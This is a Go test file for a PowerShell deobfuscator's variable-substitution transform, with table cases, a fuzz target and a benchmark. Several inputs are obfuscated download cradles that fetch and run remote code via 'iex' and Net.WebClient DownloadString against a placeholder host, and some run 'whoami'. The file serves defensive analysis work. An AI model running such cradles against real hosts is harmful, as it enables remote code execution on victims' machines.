package deobfuscate

import "testing"

func TestPSVariables(t *testing.T) {
	runTransformTable(t, PSVariables, []transformCase{
		{"code uses", `$a='Down';$b='loadString';$w.($a+$b)('http://x')`, `$a='Down';$b='loadString';$w.('Down'+'loadString')('http://x')`, true},
		{"interpolation and braces", `$u="http://x/a";iex "(New-Object Net.WebClient).DownloadString('${u}')"`,
			`$u="http://x/a";iex "(New-Object Net.WebClient).DownloadString('http://x/a')"`, true},
		{"case-insensitive names", `$Cmd = 'whoami'; iex $CMD`, `$Cmd = 'whoami'; iex 'whoami'`, true},
		{"reassignment by expression stops", `$a='x'; $a = Get-Date; $a`, `$a='x'; $a = Get-Date; $a`, false},
		{"+= stops", `$a='x'; $a += 'y'; $a`, `$a='x'; $a += 'y'; $a`, false},
		{"use before assignment", `iex $a; $a='x'`, `iex $a; $a='x'`, false},
		{"single-quoted strings are literal", `$a='x'; '$a'`, `$a='x'; '$a'`, false},
		{"scoped variables", `$env:a='x'; $env:a`, `$env:a='x'; $env:a`, false},
		{"a value set inside a block is forgotten after it", `$m='a'; if ($x) { $m='b'; iex $m }; iex $m`,
			`$m='a'; if ($x) { $m='b'; iex 'b' }; iex $m`, true},
		{"a value set before a block is used inside it", `$m='whoami'; if ($x) { iex $m }`, `$m='whoami'; if ($x) { iex 'whoami' }`, true},
	})
}

func FuzzPSVariables(f *testing.F) {
	fuzzTransform(f, PSVariables, `$a='x';"$a$a"`, `${a}='b';${a}`, `$a=`)
}

func BenchmarkPSVariables(b *testing.B) {
	benchTransform(b, PSVariables, `$a='Down';$b='loadString';$u='http://x/a';(New-Object Net.WebClient).($a+$b)("$u")`)
}
